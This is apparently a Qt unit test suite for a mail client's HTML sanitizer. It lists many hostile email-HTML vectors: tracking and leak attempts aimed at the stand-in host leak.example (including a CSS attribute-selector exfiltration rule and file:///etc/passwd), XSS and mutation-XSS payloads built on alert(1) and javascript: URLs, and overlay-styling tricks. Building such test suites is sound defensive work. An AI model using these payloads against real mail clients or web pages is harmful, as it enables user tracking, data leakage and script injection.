#include "mime/htmlsanitizer.h"
#include "support/htmlaudit.h"

#include <QTest>

using namespace posthorn;

/// Ways to make a view of mail ask a network, run something or draw over what is not its own; each is
/// sanitized, and an audit that was written apart from the sanitizer looks at every element, attribute and
/// property of what is left.
class TestHtmlVectors : public QObject
{
    Q_OBJECT

private slots:
    void leaks_data();
    void leaks();
    void acts_data();
    void acts();
    void theAuditSees_data();
    void theAuditSees();
};

namespace
{

void check(const QString &html)
{
    const SanitizedHtml safe = HtmlSanitizer::sanitize(html);
    const QStringList found = auditHtml(safe.html);
    QVERIFY2(found.isEmpty(), qPrintable(found.join(u'\n') + QStringLiteral("\n") + safe.html));
    QCOMPARE(HtmlSanitizer::sanitize(safe.html).html, safe.html);
    // What is allowed to stay are pictures alone, and only those.
    SanitizeOptions options;
    for (const BlockedResource &blocked : safe.blockedRemote)
        options.allowedRemote.insert(blocked.url);
    const SanitizedHtml open = HtmlSanitizer::sanitize(html, options);
    const QStringList also = auditHtml(open.html, options.allowedRemote);
    QVERIFY2(also.isEmpty(), qPrintable(also.join(u'\n') + QStringLiteral("\n") + open.html));
    QCOMPARE(HtmlSanitizer::sanitize(open.html, options).html, open.html);
}

void addRows(const char *const *first, const char *const *last)
{
    QTest::addColumn<QString>("html");
    int number = 0;
    for (const char *const *text = first; text != last; ++text) {
        QString html = QString::fromUtf8(*text);
        html.replace(QLatin1String("URL"), QLatin1String("https://leak.example/x"));
        QTest::addRow("%02d %.60s", number++, *text) << html;
    }
}

} // namespace

// None of the host may be left in what is shown, except as text and as the target of a link that has to be
// clicked.
void TestHtmlVectors::leaks_data()
{
    static const char *const cases[] = {
        "<img src='URL'>",
        "<img src=x srcset='URL 1x, URL 2x'>",
        "<picture><source srcset='URL'><img src='cid:x'></picture>",
        "<img lowsrc='URL' dynsrc='URL' longdesc='URL' usemap='URL' src='cid:x'>",
        "<image src='URL'>",
        "<img src='  URL  '>",
        "<img src='ht\ntps://leak.example/x'>",
        "<img src='//leak.example/x'>",
        "<img src='\\\\leak.example\\share\\x.png'>",
        "<img src='/\\leak.example/x'>",
        "<img src='http:/leak.example/x'>",
        "<img src='https:leak.example/x'>",
        "<img src='&#104;ttps://leak.example/x'>",
        "<img src='ftp://leak.example/x'><img src='file://leak.example/x'><img src='smb://leak.example/x'>",
        "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"><image "
        "href=\"URL\"/></svg>'>",
        "<img src='data:text/html,<img src=URL>'>",
        "<input type=image src='URL'>",
        "<svg><image href='URL' xlink:href='URL'/><use href='URL#x'/><feImage href='URL'/></svg>",
        "<math href='URL'><mi xlink:href='URL'>x</mi></math>",
        "<body background='URL'>",
        "<table background='URL'><tr background='URL'><td background='URL'>x</td></tr></table>",
        "<link rel=stylesheet href='URL'><link rel=preload href='URL' as=image><link rel=dns-prefetch "
        "href='URL'>",
        "<link rel=preconnect href='URL'><link rel='icon' href='URL'><link rel=manifest href='URL'><link "
        "rel=import href='URL'>",
        "<link rel=prerender href='URL'><link rel=modulepreload href='URL'><link rel=pingback href='URL'>",
        "<meta http-equiv='x-dns-prefetch-control' content='on'><meta http-equiv=refresh "
        "content='0;url=URL'>",
        "<body><meta http-equiv=\"refresh\" content=\"0; URL='URL'\"></body>",
        "<base href='URL'><img src='x.png'>",
        "<style>@import 'URL'; @import url(URL) screen; body{background:url(URL)}</style>",
        "<style>@font-face{font-family:x;src:url(URL)} @namespace url(URL);</style>",
        "<div style='background:url(URL)'>x</div>",
        "<div style='background-image:url(\"URL\")'>x</div>",
        "<div style='background:\\75rl(URL)'>x</div>",
        "<div style='background:u/**/rl(URL)'>x</div>",
        "<div style='list-style:url(URL);list-style-image:url(URL);content:url(URL);cursor:url(URL)'>x</div>",
        "<div style='border-image:url(URL) "
        "30;mask:url(URL);-webkit-mask-image:url(URL);filter:url(URL)'>x</div>",
        "<div style='background:image-set(\"URL\" 1x);background:-webkit-image-set(url(URL) 1x)'>x</div>",
        "<div style='--x:url(URL);background:var(--x)'>x</div>",
        "<div style='behavior:url(URL);-moz-binding:url(URL)'>x</div>",
        "<div style='shape-outside:url(URL);offset-path:url(URL);clip-path:url(URL);src:url(URL)'>x</div>",
        "<div style=\"background:url('URL\">unclosed</div>",
        "<video src='URL' poster='URL'><source src='URL'><track src='URL'></video><audio src='URL'></audio>",
        "<embed src='URL'><object data='URL' codebase='URL' classid='URL'><param name=movie "
        "value='URL'></object>",
        "<applet code='URL' archive='URL'></applet><iframe src='URL' srcdoc='<img src=URL>'></iframe>",
        "<frameset><frame src='URL'></frameset>",
        "<portal src='URL'></portal><bgsound src='URL'><layer src='URL'></layer><ilayer src='URL'></ilayer>",
        "<xml src='URL'></xml><isindex action='URL'>",
        "<script src='URL'></script><noscript><img src='URL'></noscript>",
        "<template><img src='URL'></template>",
        "<svg><script href='URL'></script><animate href='URL'/><set to='URL'/><foreignObject><img "
        "src='URL'></foreignObject></svg>",
        "<?xml-stylesheet href='URL'?><!DOCTYPE html SYSTEM 'URL'><p>x",
        "<form action='URL'><button formaction='URL'>go</button><input type=submit formaction='URL'></form>",
        "<html manifest='URL'><p>x",
        "<!--[if gte mso 9]><v:background src='URL'/><img src='URL'><![endif]--><p>x",
        "<![CDATA[<img src='URL'>]]>",
        "<v:rect><v:fill type='frame' src='URL'/></v:rect>",
        "<noembed><img src='URL'></noembed><noframes><img src='URL'></noframes>",
        "<xmp><img src='URL'></xmp><p>x",
        "<select><option style='background:url(URL)'>x</select>",
        "<p title='<img src=URL>'>x</p>",
        "<img alt='\"><img src=URL>' src='cid:x'>",
        "<area href='URL' ping='URL'><map><area href='URL'></map>",
        "<math><mtext><table><mglyph><style><!--</style><img src='URL'>",
        "<svg></p><style><a id=\"</style><img src='URL'>\">",
        // 89: pictures in every attribute that some program read
        "<img src=cid:x srcset='URL 2x, //leak.example/y 640w' sizes='100vw'>",
        "<picture><source media='(min-width:1px)' srcset='URL'><source srcset=\"URL 1x\" "
        "type=image/webp><img alt=x></picture>",
        "<img src='URL' lowsrc=URL dynsrc=URL data-src=URL data-original=URL longdesc=URL usemap='URL#x'>",
        "<svg><defs><pattern id=p><image xlink:href='URL'/></pattern></defs><rect fill='url(URL#p)'/></svg>",
        "<svg><filter><feImage xlink:href='URL'/></filter><style>@import 'URL';</style></svg>",
        "<math xlink:href='URL'><maction actiontype='statusline#URL' xlink:href='URL'>x</maction></math>",
        // 90: backgrounds
        "<body background=URL><table background=URL><thead background=URL><tr><th background=URL>x",
        "<p background=URL>x</p><div background='//leak.example/x'>y</div>",
        // 91, 92: link
        "<link rel='stylesheet alternate' href=URL><link rel=apple-touch-icon href=URL><link rel=search "
        "href=URL>",
        "<link rel=prefetch href=URL><link rel=preconnect href=URL crossorigin><link rel='DNS-PREFETCH' "
        "href='//leak.example'>",
        "<p><link rel=stylesheet href=URL>in the body</p>",
        // 93, 94: meta and base
        "<p><meta http-equiv='X-DNS-Prefetch-Control' content=on><meta http-equiv=Link "
        "content='<URL>;rel=prefetch'>x",
        "<meta http-equiv='&#82;efresh' content='0;url=URL'><meta http-equiv=set-cookie content=a=b><base "
        "target=_top href=URL>",
        "<meta http-equiv='Content-Security-Policy' content='report-uri URL'><meta name=report-to "
        "content=URL>",
        // 95: imports
        "<style>@import\"URL\";@import url('URL') layer(a) supports(display:grid) "
        "screen;p{color:red}</style>",
        "<style>@charset \"utf-16\";@IMPORT URL;@\\69mport 'URL';</style>",
        "<style><!-- @import 'URL'; --></style><style type='text/css' media='screen'>@import 'URL'</style>",
        "<style>@media screen{@import 'URL';p{background:url(URL)}}</style>",
        "<style>@layer a{@import url(URL);} @container (min-width:1px){p{background:url(URL)}}</style>",
        // 96: fonts and notations
        "<style>@font-face{font-family:a;src:local(x),url('URL') format('woff')}p{font-family:a}</style>",
        "<style>@font-palette-values --a{src:url(URL)}@counter-style c{symbols:url(URL)}@property "
        "--u{syntax:'<url>';"
        "inherits:false;initial-value:url(URL)}</style>",
        "<style>@document url(URL){p{color:red}}@-moz-document url-prefix(URL){p{color:red}}</style>",
        "<style>@supports (background:url(URL)){p{background:url(URL)}}</style>",
        "<style>p{background:\\75\\72\\6c(URL)}p{background:u\\rl(URL)}p{background:URL(URL)}</style>",
        "<style>p{background:url(\nURL\n)}p{background:url( \"URL\" )}p{background:url('URL' }</style>x",
        "<style>p{background:url('URL\n')}p{background:/**/url(/**/URL)}</style>",
        "<style>p{background:image-set('URL' 1x,url(URL) 2x)}p{background:-webkit-image-set(url(URL) 1x)}"
        "p{background:cross-fade(url(URL),url(URL),50%)}p{background:image('URL')}p{background:element(#x)}</"
        "style>",
        "<style>p{background:paint(url(URL))}p{background:src('URL')}p{background:url(URL) url(URL), "
        "url(URL)}</style>",
        // 97: properties
        "<style>p{background-image:url(URL)}p{list-style:url(URL)}p{list-style-image:url(URL)}p:before{"
        "content:url(URL)}"
        "p{cursor:url(URL),auto}p{border-image:url(URL) 1}p{border-image-source:url(URL)}</style>",
        "<style>p{mask:url(URL)}p{mask-image:url(URL)}p{-webkit-mask-box-image:url(URL)}p{filter:url(URL#f)}"
        "p{backdrop-filter:url(URL)}p{clip-path:url(URL#c)}p{shape-outside:url(URL)}p{offset-path:url(URL)}</"
        "style>",
        "<style>p{marker:url(URL)}p{marker-start:url(URL)}p{behavior:url(URL)}p{-moz-binding:url(URL#x)}p{"
        "src:url(URL)}"
        "p{fill:url(URL)}p{stroke:url(URL)}p{-webkit-box-reflect:below 1px url(URL)}</style>",
        "<style>p{--x:url(URL);background:var(--x)}p{background:var(--y,url(URL))}p{background:attr(data-u "
        "url)}</style>",
        "<style>input[value^=a]{background:url(URL?a)}#x:visited{background:url(URL)}a:hover{background:url("
        "URL)}</style>",
        "<style>@keyframes k{from{background:url(URL)}}p{animation:k 1s}</style>",
        "<style>a{}}</style><style>p{background:url(URL)</style>x",
        "<style>p{background:url(\\68ttps://leak.example/x)}</style>",
        "<style>p{color:red;background:url(//leak.example/x)}</style>",
        "<div style='background-image:url(&quot;URL&quot;);background:url(&#39;URL&#39;)'>x</div>",
        "<div style='background-image:linear-gradient(red,blue),url(URL)'>x</div>",
        // 98: media and plug-ins
        "<video poster=URL src=URL autoplay><source src=URL srcset=URL><track src=URL default></video>",
        "<audio src=URL autoplay></audio><bgsound src=URL><embed src=URL pluginspage=URL code=URL>",
        "<object data=URL codebase=URL classid=URL archive=URL usemap=URL><param name=src value=URL><img "
        "src=URL></object>",
        "<iframe src=URL srcdoc='&lt;img src=URL&gt;' longdesc=URL></iframe><frameset onload=x><frame "
        "src=URL></frameset>",
        "<applet codebase=URL archive=URL code=URL object=URL><param name=a value=URL></applet>",
        "<portal src=URL></portal><fencedframe src=URL></fencedframe><model src=URL></model>",
        // 99: scripts and templates
        "<script src=URL></script><script>fetch('URL')</script><noscript><style>@import "
        "'URL'</style></noscript>",
        "<template><style>@import 'URL'</style><img src=URL></template><template shadowrootmode=open><img "
        "src=URL></template>",
        "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='URL'?><!DOCTYPE x [<!ENTITY e SYSTEM "
        "'URL'>]><p>&e;",
        "<?import namespace=t implementation='URL'><xml id=x src=URL></xml><span datasrc='#x' "
        "datafld=y>z</span>",
        // 100: forms
        "<form action=URL method=post><input type=image src=URL formaction=URL><button "
        "formaction=URL>go</button></form>",
        "<input list=URL value=x><keygen form=URL><isindex action=URL prompt=x>",
        // 102, 103
        "<!--[if mso]><img src=URL><style>@import 'URL'</style><![endif]-->x",
        "<!--[if !mso]><!--><b>x</b><!--<![endif]--><!-- --!><i>y</i>",
        // 104: spellings
        "<img src='//leak.example/x'><img src='\\\\leak.example\\x'><img src='/\\leak.example/x'><img "
        "src='\\/leak.example'>",
        "<img src='hTTps:\t//leak.example/x'><img src='https:\nleak.example'><img src=' "
        "\x01https://leak.example/x'>",
        "<img src='https://user:pass@leak.example/x'><img src='https://[fe80::1%25eth0]/leak.example'>",
        "<img src='view-source:URL'><img src='jar:URL!/x'><img src='blob:URL'><img src='filesystem:URL'><img "
        "src='feed:URL'>",
        "<img src='qrc:/x'><img src='file:///etc/passwd'><img src='chrome://leak.example'><img "
        "src='resource:x'>",
        "<img src='mid:x@leak.example'><img src='ldap://leak.example'><img src='gopher://leak.example'><img "
        "src='ws://leak.example'>",
        // 105
        "<img src='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4='><img src='data:image/png,<svg onload=x>'>",
        "<img src='data:image/png;charset=utf-8;base64,AA=='><img src='data:;base64,AA=='><img "
        "src='data:text/html;base64,AA=='>",
    };
    addRows(std::begin(cases), std::end(cases));
}

void TestHtmlVectors::leaks()
{
    QFETCH(QString, html);
    check(html);
}

void TestHtmlVectors::acts_data()
{
    static const char *const cases[] = {
        "<script>alert(1)</script>",
        "<SCRIPT/x>alert(1)</SCRIPT >",
        "<img src=cid:x onerror=alert(1)>",
        "<body onload=alert(1)><p onclick='alert(1)'>x",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='JaVaScRiPt:alert(1)'>x</a>",
        "<a href=' javascript:alert(1)'>x</a>",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<a href='java\nscript:alert(1)'>x</a>",
        "<a href='&#1;javascript:alert(1)'>x</a>",
        "<a href='&#106;avascript&colon;alert(1)'>x</a>",
        "<a href='vbscript:x'>x</a><a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a xlink:href='javascript:alert(1)'>x</a>",
        "<div style='width:expression(alert(1))'>x</div>",
        "<div style='width:e\\78pression(alert(1))'>x</div>",
        "<div style='position:fixed;top:0;left:0;z-index:99'>over</div>",
        "<div style='position:absolute;margin-top:-500px'>over</div>",
        "<iframe src='javascript:alert(1)'></iframe>",
        "<form><input autofocus onfocus=alert(1)><textarea>x</textarea></form>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<title><img src=x onerror=alert(1)></title><textarea><script>alert(1)</script></textarea>",
        "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<!--><script>alert(1)</script>-->",
        "<!--x--!><script>alert(1)</script>-->",
        "<p><svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
        "<plaintext><script>alert(1)</script>",
        "<a href='https://x.org/\"onmouseover=alert(1)'>x</a>",
        "<font color='\"><script>alert(1)</script>'>x</font>",
        "<table width='1\" onload=\"alert(1)'><tr><td>1<td>2</table>",
        "<x onclick=alert(1)>y</x>",
        "<template><script>alert(1)</script></template>",
        "<svg/onload=alert(1)><svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
        "<math><a href='javascript:alert(1)'>x</a></math>",
        "<svg></p><style><img src=x onerror=alert(1)></style>",
        "<svg><desc><noembed><iframe srcdoc='&lt;script&gt;1&lt;/script&gt;'></noembed></desc></svg>",
        "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
        "<noframes><style></noframes><img src=x onerror=alert(1)></style>",
        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
        "<style><style></style><img src=x onerror=alert(1)></style>",
        "<style>p{color:red}</style/><img src=x onerror=alert(1)>",
        "<style>/*</style><script>alert(1)</script>*/</style>",
        "<style>p[title='</style><script>alert(1)</script>']{color:red}</style>",
        "<style>p{font-family:'</style><script>alert(1)</script>'}</style>",
        "<style>p{font-family:\"\\3c/style\\3e\\3cscript\\3e alert(1)\"}</style>",
        "<style>.\\3c\\2fstyle\\3e{color:red}</style><p class='</style><script>'>x",
        "<style>p{width:expression(alert(1));behavior:url(#default#time2);-moz-binding:url(x)}</style>",
        "<style>p{position:fixed;position:absolute;position:sticky;z-index:9;top:-1px;left:0;transform:none;"
        "inset:0}</style>",
        "<div style='margin:-50px;margin-left:-9999px;position:relative;top:-100px'>x</div>",
        "<div style='width:99999999px;height:1e30px;font-size:9999px;border:999999px solid red'>x</div>",
        "<div style='width:calc(1px*1e300*1e300);width:calc(expression(1));width:calc(url(x))'>x</div>",
        "<div "
        "style='clip-path:circle();clip:rect(0,0,0,0);filter:invert(1);mix-blend-mode:difference'>x</div>",
        "<div style='content:\"x\";counter-reset:a;quotes:\"<\";all:unset;contain:none'>x</div>",
        "<p id=cookie name=body class='m_ body' >x</p><a name=getElementById>y</a><form id=x><input "
        "name=nodeName></form>",
        "<p id='a b\"onclick=1'>x</p><p class='\"><script>1</script>'>y</p>",
        "<a href='https://x.org/' target=_blank rel=opener download ping='https://leak.example/' "
        "onclick=1>x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a><a href='blob:https://x.org/1'>y</a><a "
        "href='about:blank'>z</a>",
        "<a href='java&#x09;script:alert(1)'>x</a><a href='java&Tab;script&colon;alert(1)'>y</a><a "
        "href='&#x6A;avascript:1'>z</a>",
        "<a href='\\x6Aavascript:1'>x</a><a href='jav%61script:1'>y</a><a href='javascript&#58;1'>z</a><a "
        "href=livescript:1>w</a>",
        "<area href='javascript:alert(1)' alt=x><map><area href='vbscript:1' alt=y></map>",
        "<button onclick=1 formaction='javascript:1'>x</button><select onfocus=1 "
        "autofocus><option>1</select><keygen autofocus>",
        "<details open ontoggle=alert(1)><summary>x</summary>y</details><marquee onstart=1>z</marquee>",
        "<dialog open onclose=1>x</dialog><div popover id=p>y</div><slot onslotchange=1>z</slot>",
        "<table><form><tr><td><input></form><script>alert(1)</script></table>",
        "<a><table><a "
        "href='javascript:1'>x</a></table></a><select><template><script>1</script></template></select>",
        "<img src=cid:x alt='<script>alert(1)</script>' title='--><script>1</script>'>",
        "<p title='<!--'></p><script>alert(1)</script><p title='-->'></p>",
        "<image src=x onerror=alert(1)><isindex type=image src=1 onerror=alert(1)>",
        "<embed src='javascript:1'><object data='data:text/html,<script>1</script>'></object><link "
        "rel=import href='data:x'>",
        "<meta http-equiv=refresh content='0;javascript:1'><base href='javascript:1//'><a href='x'>y</a>",
        "<?php echo '<script>1</script>' ?><%= x %><![CDATA[<script>1</script>]]>",
        "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
        "<b/alt=\"1\"onmouseover=alert(1)>x</b><a\x0chref='javascript:1'\x0conclick=1>y</a>",
        "<div\x00onclick=1>x</div><scr\x00ipt>1</scr\x00ipt>",
        "<font face='x;}</style><script>1</script>' size='7\" onclick=1'>x</font>",
        "<ol start='1\" onclick=1' type='1;x'><li value='-9\" x'>y</ol><td nowrap='\"onclick=1'>z",
    };
    addRows(std::begin(cases), std::end(cases));
}

void TestHtmlVectors::acts()
{
    QFETCH(QString, html);
    check(html);
}

// An audit that finds nothing anywhere would be worth nothing.
void TestHtmlVectors::theAuditSees_data()
{
    static const char *const cases[] = {
        "<script>1</script>",
        "<p onclick=x>y</p>",
        "<img src='https://leak.example/x'>",
        "<td background='//leak.example/x'>y</td>",
        "<table><tr><td background='//leak.example/x'>y</table>",
        "<a href='javascript:x'>y</a>",
        "<p style='background:url(https://leak.example/x)'>y</p>",
        "<p style=\"background-image:url('https://leak.example/x')\">y</p>",
        "<p style='position:fixed'>y</p>",
        "<p style='margin:-5px'>y</p>",
        "<p style='width:20000px'>y</p>",
        "<p style='font-size:3px'>y</p>",
        "<p style='width:expression(1)'>y</p>",
        "<p class=other>y</p>",
        "<style>@import 'x';</style>",
        "<style>p{color:red;position:fixed}</style>",
        "<style>p{background-image:url('https://leak.example/x')}</style>",
        "<style>p{color:\\72 ed}</style>",
        "<svg></svg>",
        "<!-- x -->",
        "<form></form>",
        "<img src='data:image/svg+xml;base64,AA=='>",
    };
    addRows(std::begin(cases), std::end(cases));
}

void TestHtmlVectors::theAuditSees()
{
    QFETCH(QString, html);
    if (html.startsWith(QLatin1String("<td")))
        QVERIFY(auditHtml(html).isEmpty()); // a cell outside of a table is none
    else
        QVERIFY(!auditHtml(html).isEmpty());
}

QTEST_APPLESS_MAIN(TestHtmlVectors)
#include "test_html_vectors.moc"
